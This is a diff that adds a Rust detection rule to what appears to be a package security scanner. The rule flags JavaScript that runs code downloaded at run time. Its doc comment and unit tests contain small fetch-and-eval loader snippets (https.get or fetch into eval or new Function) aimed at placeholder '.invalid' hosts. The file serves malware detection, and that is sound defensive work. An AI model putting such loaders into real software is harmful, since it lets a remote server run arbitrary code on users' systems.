@@ -1,0 +1,65 @@
+use palisade_diagnostics::{Finding, Severity};
+
+use crate::context::ScanContext;
+use crate::rule::{Rule, RuleMeta, declare_rule};
+
+declare_rule! {
+    /// ## What it does
+    /// Finds code that runs what it downloads: a network response reaching
+    /// `eval`, `Function` or `vm`.
+    ///
+    /// ## Why is this bad?
+    /// The code that runs is chosen by the server at run time; it can differ
+    /// per victim and change after review. Loaders of crypto drainers and
+    /// second-stage droppers work this way.
+    ///
+    /// ## Example
+    /// ```js
+    /// https.get(url, (res) => { let b = ''; res.on('data', (c) => (b += c)); res.on('end', () => eval(b)); });
+    /// ```
+    ///
+    /// ## References
+    /// - MITRE ATT&CK T1105 (Ingress Tool Transfer).
+    RemoteCode {
+        id: "exec/remote-code",
+        severity: Critical,
+        status: Stable,
+        summary: "Code downloaded at run time is executed",
+    }
+}
+
+impl Rule for RemoteCode {
+    fn meta(&self) -> &'static RuleMeta {
+        &Self::META
+    }
+
+    fn check(&self, ctx: &ScanContext<'_>, out: &mut Vec<Finding>) {
+        for d in ctx.facts.decode_run.iter().filter(|d| d.decoder == "remote") {
+            out.push(
+                ctx.at(Finding::new(Self::META.id, Severity::Critical, format!("`{}` runs code received from the network", d.sink)), &d.at.location)
+                    .at_install_time(d.at.install_time)
+                    .with_capability("remote-code"),
+            );
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::tester::{Case, Tester};
+
+    #[test]
+    fn rule() {
+        Tester::new(&RemoteCode::META).test(
+            &[
+                Case::Js("const https = require('https');\nhttps.get('https://cdn.invalid/p.js', (res) => {\n  let b = '';\n  res.on('data', (c) => { b += c; });\n  res.on('end', () => eval(b));\n});"),
+                Case::Js("async function f() { const r = await fetch('https://x.invalid/a'); const code = await r.text(); new Function(code)(); }"),
+            ],
+            &[
+                Case::Js("async function f() { const r = await fetch('https://x.invalid/a'); const j = await r.json(); console.log(j); }"),
+                Case::Js("const code = fs.readFileSync('tpl.js', 'utf8'); const fn = new Function('x', 'return x');"),
+            ],
+        );
+    }
+}
